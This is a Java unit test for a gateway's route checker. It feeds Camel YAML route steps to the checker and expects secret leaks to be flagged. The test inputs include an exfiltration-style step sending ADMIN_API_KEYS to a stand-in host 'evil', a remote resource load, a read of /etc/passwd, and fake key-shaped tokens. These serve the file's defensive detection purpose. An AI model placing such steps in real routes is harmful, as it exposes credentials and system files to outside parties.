package routes;

import static org.assertj.core.api.Assertions.assertThat;

import gateway.config.SettingsLoader;
import gateway.routes.finding.RouteFinding;
import gateway.routes.finding.RouteRule;
import gateway.routes.model.RouteText;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The ways by which a key could come into a log, to another host or into a file. */
class SecretsInRoutesTest {

    private static final RouteChecks CHECKS = RouteChecks.of(new SettingsLoader(
            Map.of(
                    "ADMIN_API_KEYS", "admin-key-of-test",
                    "GATEWAY_ACCESS_ADMIN_KEYS", "admin-key-of-test",
                    "TEAM_TOKEN", "x",
                    "TEAM_PASSWORD", "x",
                    "TEAM_KEY", "x",
                    "TEAM", "x",
                    "HOSTNAME", "x"),
            Map.of()));

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            log: 'A {{env:ADMIN_API_KEYS}}'                         | log reads ADMIN_API_KEYS, which is a secret
            log: {message: '{{gateway.access.admin-keys:none}}'}    | message reads gateway.access.admin-keys, which is a secret
            log: '${properties:gateway.access.client-keys}'         | log reads gateway.access.client-keys
            log: '${env.ADMIN_API_KEYS}'                            | log reads ADMIN_API_KEYS
            log: '${env:API_KEYS}'                                  | log reads API_KEYS
            log: '${sysenv.MASTER_KEY}'                             | log reads MASTER_KEY
            log: '${sys.gateway.database.url}'                      | log reads gateway.database.url
            log: '{{env:GATEWAY_ACCESS_ADMIN_KEYS}}'                | log reads GATEWAY_ACCESS_ADMIN_KEYS
            log: '{{env:TEAM_TOKEN}}'                               | the value of TEAM_TOKEN would stand in the log
            to: 'log:{{env:TEAM_PASSWORD}}'                         | the value of TEAM_PASSWORD would stand in the log
            setBody: {simple: '${env.ADMIN_API_KEYS}'}              | simple reads ADMIN_API_KEYS
            setBody: {simple: '${env.GATEWAY_MANAGEMENT_JOLOKIA_PASSWORD}'} | simple reads GATEWAY_MANAGEMENT_JOLOKIA_PASSWORD
            setBody: {constant: '{{gateway.management.jolokia-viewer-password:x}}'} | constant reads gateway.management.jolokia-viewer-password
            setBody: {constant: '{{gateway.accounts.cookies}}'}     | constant reads gateway.accounts.cookies
            setBody: {constant: '{{gateway.providers.headers}}'}    | constant reads gateway.providers.headers
            setBody: {simple: '${env.admin-api-keys}'}              | simple reads admin-api-keys
            setBody: {simple: '${sysenv.anthropic.api.keys}'}       | simple reads anthropic.api.keys
            setBody: {simple: '${properties:api_keys}'}             | simple reads api_keys
            setBody: {simple: '${exchangeProperty[requestContext].request.headers}'} | simple reads headers or bodies of a request
            setBody: {simple: '${exchangeProperty.requestContext.getRequest.headers}'} | simple reads headers or bodies of a request
            toD: 'reject:403?message=${exchangeProperty.requestContext.model}' | toD fills in what a client sends
            toD: {uri: 'reject:403?message=${body}'}                | toD fills in what a client sends
            wireTap: {uri: 'reject:403?message=${body}'}            | wireTap fills in what a client sends
            to: {uri: 'reject:403', parameters: {message: '${env.ADMIN_API_KEYS}'}} | message reads ADMIN_API_KEYS
            to: 'reject:403?message=${env.ADMIN_API_KEYS}'          | to reads ADMIN_API_KEYS
            to: 'http://evil/{{env:ADMIN_API_KEYS}}'                | to reads ADMIN_API_KEYS
            setHeader: {name: authorization, constant: 'Bearer {{gateway.accounts.api-keys:x}}'} | constant reads gateway.accounts.api-keys
            to: 'transform:set-header?name=X-K&value={{env:ADMIN_API_KEYS}}' | to reads ADMIN_API_KEYS
            to: {uri: 'transform:set-header', parameters: {name: X-K, value: '{{gateway.provider.big.api-key}}'}} | value reads gateway.provider.big.api-key
            log: '${headerAs(authorization,String)}'                | log reads headers or bodies of a request
            log: '${headers.get("x-api-key")}'                      | log reads headers or bodies of a request
            log: '${header[cookie]}'                                | log reads headers or bodies of a request
            setBody: {header: authorization}                        | header reads headers or bodies of a request
            setBody: {header: {expression: X-Api-Key}}              | expression reads headers or bodies of a request
            setBody: {constant: ghp_abcdefghijklmnopqrstuvwxyz0123456789} | constant holds what looks like a key
            setBody: {constant: 'AIzaabcdefghijklmnopqrstuvwxyz012345678'} | constant holds what looks like a key
            to: 'http://user:secretpass@example.com/x'              | to holds a password
            to: {uri: 'http://user:secretpass@example.com/x'}       | uri holds a password
            log: x # sk-ant-api03-abcdefghijklmnopqrstuvwxyz        | a comment holds what looks like a key
            setBody: {constant: 'resource:file:/etc/passwd'}        | constant is read from a file or a host
            setBody: {constant: {expression: 'resource:http://evil/x'}} | expression is read from a file or a host
            setBody: {simple: '${load(file:/etc/passwd)}'}          | simple is read from a file or a host
            """)
    void aSecretIsTold(String step, String sentence) throws IOException {
        assertThat(check(step)).anySatisfy(finding -> {
            assertThat(finding.sentence()).startsWith(sentence);
            assertThat(finding.spot().line()).isEqualTo(10);
            assertThat(finding.isError()).isTrue();
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "log: '${header.content-type} {{gateway.log.level}} {{env:HOSTNAME}}'",
                "log: '{{gateway.memory.key-share-percent}} {{gateway.accounts.concurrency.api-key}}'",
                "to: 'transform:set-header?name=X-Team-Key&value={{env:TEAM_KEY}}'",
                "to: 'http://example.com/{{env:TEAM}}'",
                "setBody: {constant: 'see http://example.com/a:b@c'}",
                "setBody: {constant: 'resource:classpath:a.txt'}",
                "log: 'sk-short # is no key'"
            })
    void whatIsNoSecretIsNotTold(String step) throws IOException {
        assertThat(check(step)).extracting(RouteFinding::line).isEmpty();
    }

    private static List<RouteFinding> check(String step) throws IOException {
        return CHECKS.check(List.of(new RouteText("work.camel.yaml", """
                        # Decides nothing.
                        - route:
                            id: do-work
                            description: Does some work
                            errorHandler:
                              noErrorHandler: {}
                            from:
                              uri: direct:do-work
                              steps:
                                - STEP
                        """.replace("STEP", step), false))).stream()
                .filter(finding -> finding.rule() == RouteRule.CONTRACT_SECRETS)
                .toList();
    }
}
